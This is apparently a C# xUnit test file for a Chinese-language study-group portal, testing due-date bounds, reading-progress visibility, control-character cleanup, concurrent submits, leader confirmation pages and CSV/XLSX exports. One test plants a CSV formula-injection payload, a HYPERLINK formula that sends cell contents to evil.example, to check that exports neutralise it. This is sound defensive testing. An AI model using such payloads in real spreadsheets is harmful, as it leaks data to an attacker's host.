using System.Globalization;
using System.Net;
using System.Text;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using Microsoft.EntityFrameworkCore;
using StudyPortal.Web.Tests.Infrastructure;

namespace StudyPortal.Web.Tests.Groups;

/// <summary>What probing the study groups found (issue 12, items 1–4): far due dates, formulas and control characters in exports, double submits.</summary>
public sealed class GroupHardeningTests(LogCapturingPortalFactory factory) : IClassFixture<LogCapturingPortalFactory>
{
    private static string Day(DateOnly date) => date.ToString("yyyy-MM-dd", CultureInfo.InvariantCulture);

    private static readonly string[] EveryPage = ["/", "/study"];

    [Fact]
    public async Task FarDueDate_IsRefusedOnEveryPath_AndAStoredOneBreaksNoPage()
    {
        var s = await factory.StoryAsync();
        var documentId = await factory.DocumentIdAsync(Seeded.Booklet);
        var assign = $"/leader/groups/{s.GroupId}/assign";
        var refused = await s.Leader.SubmitFormAsync($"{assign}?document={documentId}", new()
        {
            ["Document"] = documentId.ToString(CultureInfo.InvariantCulture), ["WholeDocument"] = "true", ["DueDate"] = "9999-12-31",
        }, assign);
        Assert.Equal(HttpStatusCode.BadRequest, refused.StatusCode);
        Assert.Contains("截止日期须在今天到", await refused.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.Equal(1, await factory.DbAsync(db => db.Assignments.CountAsync(a => a.GroupId == s.GroupId)));

        // Six years ahead is past the five-year horizon; four years is fine.
        var today = DateOnly.FromDateTime(DateTime.UtcNow.AddHours(8));
        var edit = $"/leader/assignments/{s.AssignmentId}";
        var tooFar = await s.Leader.SubmitFormAsync(edit, new() { ["title"] = "改名", ["dueDate"] = Day(today.AddYears(6)) }, edit + "?handler=Save");
        Assert.Equal(HttpStatusCode.BadRequest, tooFar.StatusCode);
        Assert.Equal("9999-12-31", Day(DateOnly.MaxValue));
        var unchanged = await factory.DbAsync(db => db.Assignments.SingleAsync(a => a.Id == s.AssignmentId));
        Assert.NotEqual("改名", unchanged.Title);
        var fine = await s.Leader.SubmitFormAsync(edit, new() { ["title"] = "改名", ["dueDate"] = Day(today.AddYears(4)) }, edit + "?handler=Save");
        Assert.Equal(HttpStatusCode.Redirect, fine.StatusCode);

        // A date stored before the bound existed (the last day of the calendar) renders everywhere.
        await factory.DbAsync(db => db.Assignments.Where(a => a.Id == s.AssignmentId).ExecuteUpdateAsync(x => x.SetProperty(a => a.DueDate, DateOnly.MaxValue)));
        foreach (var url in EveryPage.Append($"/study/{s.AssignmentId}"))
            Assert.Equal(HttpStatusCode.OK, (await s.MemberClient.GetAsync(new Uri(url, UriKind.Relative))).StatusCode);
        var progress = $"/leader/groups/{s.GroupId}/progress";
        foreach (var url in new[] { "/", progress, progress + "?handler=Csv", progress + "?handler=Xlsx", edit, $"/leader/groups/{s.GroupId}" })
            Assert.Equal(HttpStatusCode.OK, (await s.Leader.GetAsync(new Uri(url, UriKind.Relative))).StatusCode);
        // Saving the page as it is keeps that date (unchanged) rather than refusing the leader's other edits.
        var keep = await s.Leader.SubmitFormAsync(edit, new() { ["title"] = "再改名", ["dueDate"] = "9999-12-31" }, edit + "?handler=Save");
        Assert.Equal(HttpStatusCode.Redirect, keep.StatusCode);
    }

    [Fact]
    public async Task ALeaderSeesReadingOnlySinceTheAssignment_NotTheMembersHistory()
    {
        var s = await factory.StoryAsync();
        await s.MemberClient.ReadToTheEndAsync(s.Keys);
        // That reading, moved to the day before the assignment: the member's history, which the leader must not see.
        var assignedAt = await factory.DbAsync(db => db.Assignments.Where(a => a.Id == s.AssignmentId).Select(a => a.CreatedAtUtc).SingleAsync());
        var before = assignedAt.AddDays(-1);
        await factory.DbAsync(db => db.ReadingProgress.Where(p => p.UserId == s.Member.Id)
            .ExecuteUpdateAsync(x => x.SetProperty(p => p.OpenedAtUtc, before).SetProperty(p => p.LastReadAtUtc, before).SetProperty(p => p.CompletedAtUtc, before)));

        var progress = $"/leader/groups/{s.GroupId}/progress";
        var (_, matrix) = await HtmlPage.GetAsync(s.Leader, progress);
        Assert.Equal("未开始", matrix.QuerySelector($"tr[data-user='{s.Member.UserName}'] td[data-assignment='{s.AssignmentId}']")!.FirstChild!.TextContent.Trim());
        var refused = await s.MemberClient.PostWithTokenAsync($"/study/{s.AssignmentId}", new() { ["reflection"] = "以前读过" });
        Assert.Equal(HttpStatusCode.BadRequest, refused.StatusCode);

        // Read again for the assignment: now it counts, for the leader and for the check-in.
        await s.MemberClient.ReadToTheEndAsync(s.Keys.Take(1));
        (_, matrix) = await HtmlPage.GetAsync(s.Leader, progress);
        Assert.Equal("学习中", matrix.QuerySelector($"tr[data-user='{s.Member.UserName}'] td[data-assignment='{s.AssignmentId}']")!.FirstChild!.TextContent.Trim());
        await s.MemberClient.ReadToTheEndAsync(s.Keys.Skip(1));
        Assert.Equal(HttpStatusCode.Redirect, (await s.MemberClient.SubmitFormAsync($"/study/{s.AssignmentId}", new() { ["reflection"] = "重新学习" })).StatusCode);
    }

    [Fact]
    public async Task CsvExport_NeutralisesFormulasInReflectionsAndNames()
    {
        var s = await factory.StoryAsync();
        await s.MemberClient.ReadToTheEndAsync(s.Keys);
        const string formula = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"点击查看\")";
        Assert.Equal(HttpStatusCode.Redirect, (await s.MemberClient.SubmitFormAsync($"/study/{s.AssignmentId}", new() { ["reflection"] = formula })).StatusCode);
        await factory.DbAsync(db => db.Users.Where(u => u.Id == s.Other.Id).ExecuteUpdateAsync(x => x.SetProperty(u => u.DisplayName, "@SUM(1+1)")));

        var csv = Encoding.UTF8.GetString(await s.Leader.GetByteArrayAsync(new Uri($"/leader/groups/{s.GroupId}/progress?handler=Csv", UriKind.Relative)));
        using var reader = new CsvHelper.CsvReader(new StringReader(csv.TrimStart('\uFEFF')), CultureInfo.InvariantCulture);
        var cells = new List<string>();
        while (reader.Read()) cells.AddRange(Enumerable.Range(0, reader.Parser.Count).Select(i => reader.GetField(i)!));
        Assert.Contains("'" + formula, cells);
        Assert.Contains("'@SUM(1+1)", cells);
        Assert.DoesNotContain(cells, c => c.Length > 0 && c[0] is '=' or '+' or '-' or '@' or '\t' or '\r');
    }

    [Fact]
    public async Task ControlCharacters_AreDroppedOnInput_AndOldRowsStillExport()
    {
        var name = new string('支', 30) + "🇨🇳";
        var s = await factory.StoryAsync(groupName: name + "\u0001");
        await s.MemberClient.ReadToTheEndAsync(s.Keys);
        Assert.Equal(HttpStatusCode.Redirect, (await s.MemberClient.SubmitFormAsync($"/study/{s.AssignmentId}", new() { ["reflection"] = "学\u0001习\u000b心\u001f得" })).StatusCode);
        Assert.Equal("学习心得", await factory.DbAsync(db => db.CheckIns.Where(c => c.AssignmentId == s.AssignmentId).Select(c => c.Reflection).SingleAsync()));
        Assert.Equal(name, await factory.DbAsync(db => db.StudyGroups.Where(g => g.Id == s.GroupId).Select(g => g.Name).SingleAsync()));

        // A reflection stored with control characters before input was cleaned.
        await factory.DbAsync(db => db.CheckIns.Where(c => c.AssignmentId == s.AssignmentId).ExecuteUpdateAsync(x => x.SetProperty(c => c.Reflection, "旧\u0001数\u000b据\u001f")));
        var xlsx = await s.Leader.GetAsync(new Uri($"/leader/groups/{s.GroupId}/progress?handler=Xlsx", UriKind.Relative));
        Assert.Equal(HttpStatusCode.OK, xlsx.StatusCode);
        using var workbook = SpreadsheetDocument.Open(new MemoryStream(await xlsx.Content.ReadAsByteArrayAsync()), false);
        var sheet = workbook.WorkbookPart!.Workbook.Descendants<Sheet>().Single().Name!.Value!;
        Assert.Equal(new string('支', 30), sheet);
        Assert.Contains(workbook.WorkbookPart.WorksheetParts.Single().Worksheet.Descendants<Cell>(), c => c.InnerText == "旧数据");
    }

    [Fact]
    public async Task DoubleSubmittedCheckInAndProgress_AnswerAlikeAndLogNoError()
    {
        var since = DateTimeOffset.UtcNow;
        var s = await factory.StoryAsync();
        // Sixteen first reports of the same chapter at once.
        var first = await Task.WhenAll(Enumerable.Range(0, 16).Select(_ => s.MemberClient.ReportAsync(s.Keys[0], 3, completed: false)));
        Assert.All(first, r => Assert.Equal(HttpStatusCode.NoContent, r.StatusCode));
        Assert.Equal(1, await factory.DbAsync(db => db.ReadingProgress.CountAsync(p => p.UserId == s.Member.Id && p.SectionKey == s.Keys[0])));
        await s.MemberClient.ReadToTheEndAsync(s.Keys);

        var url = $"/study/{s.AssignmentId}";
        var token = await Accounts.TokenAsync(s.MemberClient, url);
        var answers = await Task.WhenAll(Enumerable.Range(0, 16).Select(_ => s.MemberClient.PostAsync(new Uri(url, UriKind.Relative),
            new FormUrlEncodedContent(new Dictionary<string, string> { ["reflection"] = "同时提交的心得", ["__RequestVerificationToken"] = token }))));
        Assert.All(answers, r => Assert.Equal(HttpStatusCode.Redirect, r.StatusCode));
        Assert.Equal(1, await factory.DbAsync(db => db.CheckIns.CountAsync(c => c.AssignmentId == s.AssignmentId && c.UserId == s.Member.Id)));
        Assert.Empty(factory.Log.Errors(since));
    }
}

/// <summary>Issue 12, items 19–21 and 23 on the leader's pages: questions before destruction, a word after success, no silent 400.</summary>
[Collection(SecuredPortalCollection.Name)]
public sealed class LeaderPageTests(SecuredPortalFactory factory)
{
    [Fact]
    public async Task RemovingAMember_AsksFirst_ThenSaysWhatHappened()
    {
        var s = await factory.StoryAsync();
        var url = $"/leader/groups/{s.GroupId}";
        var (_, page) = await HtmlPage.GetAsync(s.Leader, url);
        var link = page.QuerySelectorAll("a.danger-link").Single(a => a.GetAttribute("href")!.Contains(Uri.EscapeDataString(s.Member.Id), StringComparison.Ordinal));
        var (_, question) = await HtmlPage.GetAsync(s.Leader, link.GetAttribute("href")!.Split('#')[0]);
        Assert.Contains(s.Member.UserName!, question.QuerySelector(".confirm-box")!.TextContent, StringComparison.Ordinal);
        Assert.True(await factory.DbAsync(db => db.GroupMembers.AnyAsync(m => m.GroupId == s.GroupId && m.UserId == s.Member.Id)));

        var plain = await s.Leader.SubmitFormAsync(url, new() { ["userId"] = s.Member.Id }, url + "?handler=Remove");
        Assert.Equal(HttpStatusCode.OK, plain.StatusCode);
        Assert.True(await factory.DbAsync(db => db.GroupMembers.AnyAsync(m => m.GroupId == s.GroupId && m.UserId == s.Member.Id)));
        var removed = await s.Leader.SubmitFormAsync(url, new() { ["userId"] = s.Member.Id, ["confirmed"] = "true" }, url + "?handler=Remove");
        Assert.Equal(HttpStatusCode.Redirect, removed.StatusCode);
        Assert.False(await factory.DbAsync(db => db.GroupMembers.AnyAsync(m => m.GroupId == s.GroupId && m.UserId == s.Member.Id)));
        var (_, after) = await HtmlPage.GetAsync(s.Leader, url);
        Assert.Contains("移出本小组", after.QuerySelector(".flash")!.TextContent, StringComparison.Ordinal);
    }

    [Fact]
    public async Task EmptyGroupName_SaysWhy_AndAssigningSaysWhatHappened()
    {
        var leader = await factory.SignedInAsync(StudyPortal.Data.Accounts.PortalRoles.Leader);
        var empty = await leader.SubmitFormAsync("/leader/groups", new() { ["Name"] = "  " });
        Assert.Equal(HttpStatusCode.BadRequest, empty.StatusCode);
        var page = new AngleSharp.Html.Parser.HtmlParser().ParseDocument(await empty.Content.ReadAsStringAsync());
        Assert.Contains("小组名称", page.QuerySelector(".form-error")!.TextContent, StringComparison.Ordinal);
        Assert.Equal("true", page.QuerySelector("input[name=Name]")!.GetAttribute("aria-invalid"));

        var s = await factory.StoryAsync();
        var (_, progress) = await HtmlPage.GetAsync(s.Leader, $"/leader/groups/{s.GroupId}/progress");
        // The first page after assigning (StoryAsync followed no redirect) says what was done, once.
        Assert.Contains("已布置学习任务", progress.QuerySelector(".flash")!.TextContent, StringComparison.Ordinal);
        (_, progress) = await HtmlPage.GetAsync(s.Leader, $"/leader/groups/{s.GroupId}/progress");
        Assert.Null(progress.QuerySelector(".flash"));
        var rename = await s.Leader.SubmitFormAsync($"/leader/groups/{s.GroupId}", new() { ["name"] = "" }, $"/leader/groups/{s.GroupId}?handler=Rename");
        Assert.Equal(HttpStatusCode.BadRequest, rename.StatusCode);
        Assert.Contains("小组名称", await rename.Content.ReadAsStringAsync(), StringComparison.Ordinal);

        // The assignment page's breadcrumb names the group, not the word "小组".
        var (_, assignment) = await HtmlPage.GetAsync(s.Leader, $"/leader/assignments/{s.AssignmentId}");
        Assert.Equal("学习小组 › 第一党支部", string.Join(" ", assignment.QuerySelector(".breadcrumb")!.TextContent.Split((char[]?)null, StringSplitOptions.RemoveEmptyEntries)));
    }
}
